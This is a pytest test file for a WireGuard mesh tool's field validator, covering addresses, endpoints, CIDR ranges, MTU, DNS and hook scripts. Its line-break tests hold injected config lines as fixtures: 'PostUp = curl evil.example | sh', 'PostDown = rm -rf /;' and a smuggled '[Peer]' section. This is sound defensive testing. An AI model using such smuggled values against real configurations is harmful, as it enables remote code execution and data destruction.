"""
Field Validator Tests

Tests per-field grammar rules, the composite scripts rule and the
whole-model helpers.
"""

import pytest

from wgmesh.models.network import EnabledValue, Peer, Scripts
from wgmesh.networking.field_validator import (
    INVALID_FIELD_TYPE,
    UNKNOWN_FIELD,
    StringField,
    ToggleField,
    ValidationContext,
    as_field_value,
    validate,
    validate_connection,
    validate_peer,
)

from conftest import PEER_A


def disabled():
    return {"enabled": False, "value": ""}


def assert_ok(result):
    assert result.status, f"Expected OK but got {result!r}"
    assert result.message == ""


def assert_error(result, message):
    assert not result.status
    assert message in result.message


class TestFieldValueShapes:
    """Test raw payload tagging"""

    def test_string_payload(self):
        assert as_field_value("x") == StringField("x")

    def test_toggle_payload(self):
        assert as_field_value({"enabled": True, "value": 5}) == ToggleField(True, 5)
        assert as_field_value(EnabledValue(enabled=True, value="1.1.1.1")) == ToggleField(True, "1.1.1.1")

    @pytest.mark.parametrize("payload", [42, None, ["a"], {"enabled": "yes", "value": 1}])
    def test_malformed_payload(self, payload):
        assert as_field_value(payload) is None
        assert_error(validate("mtu", payload), INVALID_FIELD_TYPE)

    def test_shape_mismatch_is_invalid_type(self):
        assert_error(validate("name", {"enabled": True, "value": "x"}), INVALID_FIELD_TYPE)
        assert_error(validate("mtu", "1420"), INVALID_FIELD_TYPE)

    def test_unknown_field(self):
        assert_error(validate("colour", "blue"), UNKNOWN_FIELD)

    def test_input_not_mutated(self):
        payload = {"enabled": True, "value": " 1420 "}
        validate("mtu", payload)
        assert payload == {"enabled": True, "value": " 1420 "}


class TestStringRules:
    """Test string-shaped fields"""

    def test_peer_id(self):
        assert_ok(validate("peerId", "550e8400-e29b-41d4-a716-446655440000"))
        assert_error(validate("peerId", "not-a-uuid"), "peerId needs to follow uuid4 standards")

    def test_name(self):
        assert_ok(validate("name", "laptop"))
        assert_error(validate("name", ""), "name cannot be empty")

    @pytest.mark.parametrize("address", ["10.0.0.1", "192.168.1.254", "0.0.0.0"])
    def test_address_valid(self, address):
        assert_ok(validate("address", address))

    @pytest.mark.parametrize("address", ["", "10.0.0", "10.0.0.256", "10.0.0.1/24", "host"])
    def test_address_invalid(self, address):
        assert_error(validate("address", address), "address is not IPv4")

    def test_mobility(self):
        assert_ok(validate("mobility", "static"))
        assert_ok(validate("mobility", "roaming"))
        assert_error(validate("mobility", "mobile"), "mobility must be one of")

    @pytest.mark.parametrize("endpoint", ["1.2.3.4:51820", "vpn.example.com:0", "host-1.example:65535"])
    def test_endpoint_valid(self, endpoint):
        assert_ok(validate("endpoint", endpoint))

    @pytest.mark.parametrize(
        "endpoint",
        ["1.2.3.4", "1.2.3.4:65536", "1.2.3.4:-1", "-bad.example.com:80", "exa mple.com:80", ":80", "1.2.3.999:80"],
    )
    def test_endpoint_invalid(self, endpoint):
        assert_error(validate("endpoint", endpoint), "endpoint is not IPv4 nor an FQDN")

    def test_endpoint_toggle_form(self):
        assert_ok(validate("endpoint", {"enabled": False, "value": "garbage"}))
        assert_ok(validate("endpoint", {"enabled": True, "value": "1.2.3.4:51820"}))
        assert_error(validate("endpoint", {"enabled": True, "value": "garbage"}), "endpoint")

    def test_endpoint_toggle_form_reports_plain_string(self):
        """
        GIVEN an endpoint edited through its on/off form
        WHEN validating
        THEN the result value is the plain string Peer.endpoint stores
        """
        assert validate("endpoint", {"enabled": True, "value": "1.2.3.4:51820"}).value == "1.2.3.4:51820"
        assert validate("endpoint", {"enabled": False, "value": "garbage"}).value == ""

    @pytest.mark.parametrize(
        "field,value",
        [
            ("name", "laptop\nPostUp = curl evil.example | sh"),
            ("public_key", "key\n[Peer]"),
            ("private_key", "key\r\nDNS = 6.6.6.6"),
            ("pre_shared_key", "psk\n"),
            ("allowed_ips_a_to_b", "10.0.0.2/32,\n0.0.0.0/0"),
            ("allowed_ips_b_to_a", "10.0.0.0/24\n"),
            ("endpoint", "1.2.3.4:51820\n"),
            ("endpoint", "vpn.example.com\n:51820"),
            ("subnet", "10.0.0.0/24\n"),
        ],
    )
    def test_line_breaks_rejected(self, field, value):
        assert_error(validate(field, value), f"{field} cannot contain line breaks")

    @pytest.mark.parametrize("field", ["allowed_ips_a_to_b", "allowed_ips_b_to_a"])
    def test_allowed_ips(self, field):
        assert_ok(validate(field, "10.0.0.0/24"))
        assert_ok(validate(field, "10.0.0.2/32, 192.168.0.0/16,0.0.0.0/0"))
        assert_error(validate(field, ""), "AllowedIPs is not in CIDR format")
        assert_error(validate(field, "10.0.0.0/33"), "AllowedIPs is not in CIDR format")
        assert_error(validate(field, "10.0.0.1"), "AllowedIPs is not in CIDR format")
        assert_error(validate(field, "10.0.0.0/24,"), "AllowedIPs is not in CIDR format")

    def test_keys_non_empty(self):
        for field in ("public_key", "private_key", "pre_shared_key"):
            assert_ok(validate(field, "opaque"))
            assert_error(validate(field, ""), f"{field} cannot be empty")

    def test_network_fields(self):
        assert_ok(validate("identifier", "wg-test"))
        assert_error(validate("identifier", ""), "identifier cannot be empty")
        assert_ok(validate("subnet", "10.0.0.0/24"))
        assert_ok(validate("subnet", "0.0.0.0/0"))
        assert_error(validate("subnet", ""), "subnet is not in CIDR format")


class TestAddressWithContext:
    """Test the address rule against a network"""

    def test_outside_subnet(self, network):
        context = ValidationContext(network=network)
        assert_error(validate("address", "10.1.0.5", context), "address is not in subnet")

    def test_taken_by_other_peer(self, network):
        context = ValidationContext(network=network)
        assert_error(validate("address", "10.0.0.2", context), "already taken by laptop")

    def test_own_address_allowed(self, network):
        context = ValidationContext(network=network, peer_id=PEER_A)
        assert_ok(validate("address", "10.0.0.1", context))

    def test_free_address(self, network):
        assert_ok(validate("address", "10.0.0.9", ValidationContext(network=network)))

    @pytest.mark.parametrize(
        "address,message",
        [
            ("10.0.0.0", "address is the network address of subnet 10.0.0.0/24"),
            ("10.0.0.255", "address is the broadcast address of subnet 10.0.0.0/24"),
        ],
    )
    def test_network_and_broadcast_rejected(self, network, address, message):
        assert_error(validate("address", address, ValidationContext(network=network)), message)

    def test_point_to_point_subnet_has_no_reserved_addresses(self, network):
        """
        GIVEN a /31 network
        WHEN validating both of its addresses
        THEN both are usable
        """
        point_to_point = network.model_copy(update={"subnet": "10.0.0.0/31", "peers": {}})
        context = ValidationContext(network=point_to_point)
        assert_ok(validate("address", "10.0.0.0", context))
        assert_ok(validate("address", "10.0.0.1", context))


class TestToggleRules:
    """Test {enabled, value} fields"""

    @pytest.mark.parametrize("field", ["mtu", "persistent_keepalive"])
    def test_numeric_range(self, field):
        assert not validate(field, {"enabled": True, "value": 0}).status
        assert validate(field, {"enabled": True, "value": 1}).status
        assert validate(field, {"enabled": True, "value": 65535}).status
        assert not validate(field, {"enabled": True, "value": 65536}).status
        assert validate(field, {"enabled": True, "value": "1420"}).status
        assert not validate(field, {"enabled": True, "value": "abc"}).status
        assert not validate(field, {"enabled": True, "value": True}).status

    @pytest.mark.parametrize("field", ["mtu", "persistent_keepalive"])
    def test_numeric_string_normalized(self, field):
        """
        GIVEN a numeric string with a sign or padding
        WHEN validating
        THEN the result carries the parsed int
        """
        assert validate(field, {"enabled": True, "value": "+1420"}).value == {"enabled": True, "value": 1420}
        assert validate(field, {"enabled": True, "value": " 1420 "}).value == {"enabled": True, "value": 1420}
        assert validate(field, {"enabled": True, "value": 1420}).value == {"enabled": True, "value": 1420}
        assert_error(validate(field, {"enabled": True, "value": "1420\n"}), "line breaks")

    @pytest.mark.parametrize("field", ["mtu", "persistent_keepalive"])
    def test_disabled_skips_value_check(self, field):
        assert validate(field, {"enabled": False, "value": -1}).status

    def test_messages(self):
        assert_error(validate("mtu", {"enabled": True, "value": 0}), "MTU is invalid")
        assert_error(
            validate("persistent_keepalive", {"enabled": True, "value": 0}),
            "Persistent Keepalive is invalid",
        )

    def test_dns(self):
        assert_ok(validate("dns", {"enabled": True, "value": "1.1.1.1"}))
        assert_ok(validate("dns", {"enabled": True, "value": "1.1.1.1, 8.8.8.8"}))
        assert_ok(validate("dns", {"enabled": False, "value": "nonsense"}))
        assert_error(validate("dns", {"enabled": True, "value": "1.1.1.1,dns.google"}), "DNS is invalid")
        assert_error(validate("dns", {"enabled": True, "value": ""}), "DNS is invalid")
        assert_error(
            validate("dns", {"enabled": True, "value": "1.1.1.1,\n8.8.8.8"}), "dns cannot contain line breaks"
        )

    def test_script(self):
        assert_error(
            validate("script", {"enabled": True, "value": "echo hi"}),
            "script needs to end with a semicolon",
        )
        assert_ok(validate("script", {"enabled": True, "value": "echo hi;"}))
        assert_ok(validate("script", {"enabled": True, "value": "echo hi;  "}))
        assert_ok(validate("script", {"enabled": False, "value": "echo hi"}))
        assert_error(validate("script", {"enabled": True, "value": "echo a;\necho b;"}), "line breaks")
        assert_error(validate("script", {"enabled": True, "value": "echo a;\n"}), "line breaks")

    @pytest.mark.parametrize("field", ["pre_up", "post_up", "pre_down", "post_down"])
    def test_hook_aliases(self, field):
        assert validate(field, {"enabled": True, "value": "iptables -F;"}).status
        assert not validate(field, {"enabled": True, "value": "iptables -F"}).status


class TestScriptsRule:
    """Test the composite scripts rule"""

    def test_missing_key(self):
        """
        GIVEN scripts without post_down
        WHEN validating
        THEN the missing key is reported
        """
        result = validate("scripts", {"pre_up": disabled(), "post_up": disabled(), "pre_down": disabled()})
        assert_error(result, "scripts must include 'post_down'")

    def test_all_disabled(self):
        scripts = {key: disabled() for key in ("pre_up", "post_up", "pre_down", "post_down")}
        assert_ok(validate("scripts", scripts))

    def test_first_failure_short_circuits(self):
        scripts = {
            "pre_up": {"enabled": True, "value": "echo up;"},
            "post_up": {"enabled": True, "value": "echo bad"},
            "pre_down": {"enabled": True, "value": "echo also bad"},
        }
        assert_error(validate("scripts", scripts), "script needs to end with a semicolon")

    def test_scripts_model(self):
        scripts = Scripts(post_up=EnabledValue(enabled=True, value="echo ok;"))
        result = validate("scripts", scripts)
        assert_ok(result)
        assert result.value["post_up"] == {"enabled": True, "value": "echo ok;"}

    def test_bad_hook_shape(self):
        scripts = {key: disabled() for key in ("pre_up", "post_up", "pre_down")}
        scripts["post_down"] = "echo;"
        assert_error(validate("scripts", scripts), INVALID_FIELD_TYPE)

    def test_string_payload_rejected(self):
        assert_error(validate("scripts", "echo;"), INVALID_FIELD_TYPE)


class TestModelHelpers:
    """Test validate_peer / validate_connection"""

    def test_valid_peer(self, network, static_peer):
        assert validate_peer(static_peer, network) == {}

    def test_invalid_peer_reports_each_field(self, network):
        peer = Peer(
            id="not-a-uuid",
            name="",
            address="10.0.0.2",
            mobility="static",
            endpoint="nowhere",
            private_key="k",
            public_key="k",
            mtu=EnabledValue(enabled=True, value=0),
        )
        errors = validate_peer(peer, network)

        assert set(errors) == {"peerId", "name", "address", "endpoint", "mtu"}
        assert "already taken" in errors["address"]

    def test_roaming_peer_endpoint_ignored(self, roaming_peer):
        assert "endpoint" not in validate_peer(roaming_peer)

    def test_connection(self, connection):
        assert validate_connection(connection) == {}
        broken = connection.model_copy(update={"allowed_ips_a_to_b": "everything"})
        assert validate_connection(broken) == {"allowed_ips_a_to_b": "AllowedIPs is not in CIDR format"}

    def test_multiline_values_caught_before_rendering(self, network, static_peer):
        """
        GIVEN a peer whose name and hook smuggle extra config lines
        WHEN validating the whole peer
        THEN both fields are reported
        """
        peer = static_peer.model_copy(update={
            "name": "hub\nPostUp = curl evil.example | sh",
            "scripts": Scripts(post_up=EnabledValue(enabled=True, value="echo up;\nPostDown = rm -rf /;")),
        })
        errors = validate_peer(peer, network)

        assert errors == {
            "name": "name cannot contain line breaks",
            "scripts": "scripts cannot contain line breaks",
        }

    def test_connection_multiline_keys(self, connection):
        broken = connection.model_copy(update={"pre_shared_key": "psk\n[Peer]"})
        assert validate_connection(broken) == {"pre_shared_key": "pre_shared_key cannot contain line breaks"}
